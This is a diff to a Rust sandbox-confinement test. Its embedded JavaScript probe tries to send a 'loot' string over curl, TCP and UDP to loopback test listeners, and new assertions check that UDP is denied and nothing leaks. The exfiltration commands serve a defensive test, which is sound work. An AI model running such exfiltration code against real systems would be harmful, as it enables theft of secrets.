@@ -60,14 +60,22 @@ r.curl_direct = attempt('curl_direct_run', () => cp.execSync(
   "curl -s -m 10 --noproxy '*' -o /dev/null -w '%{http_code}' --data-binary @- http://127.0.0.1:" + t.tcp + "/direct || true",
   { input: loot }).toString());
 const done = () => { fs.writeFileSync(path.join(__dirname, 'report.json'), JSON.stringify(r)); };
-const u = dgram.createSocket('udp4');
-u.send(Buffer.from('udp ' + loot), t.udp, '127.0.0.1', e => {
-  r.udp = e ? (e.code || String(e)) : 'sent';
-  u.close();
+const tcp = () => {
   const s = net.connect({ host: '127.0.0.1', port: t.tcp });
   s.on('connect', () => { r.direct = 'connected'; s.end('direct ' + loot, done); });
   s.on('error', e => { r.direct = e.code; done(); });
-});
+};
+let udpDone = false;
+const afterUdp = e => {
+  if (udpDone) return;
+  udpDone = true;
+  r.udp = e ? (e.code || String(e)) : 'sent';
+  try { u.close(); } catch (e) {}
+  tcp();
+};
+const u = dgram.createSocket('udp4');
+u.on('error', afterUdp);
+try { u.send(Buffer.from('udp ' + loot), t.udp, '127.0.0.1', afterUdp); } catch (e) { afterUdp(e); }
 "#
     .to_string()
 }
@@ -273,6 +281,8 @@ fn confined(t: &T, r: &Value) {
     // not an approved destination (403).
     assert_ne!(r["direct"], "connected", "{r:#}");
     assert_eq!(r["curl"], "403", "{r:#}");
+    // No UDP socket at all (DNS to a loopback resolver would be a way out).
+    assert_eq!(r["udp"], "EACCES", "{r:#}");
     assert_eq!(t.tcp.connections().len(), 0, "the listener was reached");
     // Nothing secret anywhere in the audit log either.
     let log = std::fs::read_to_string(t.g.state.join("audit.jsonl")).unwrap();
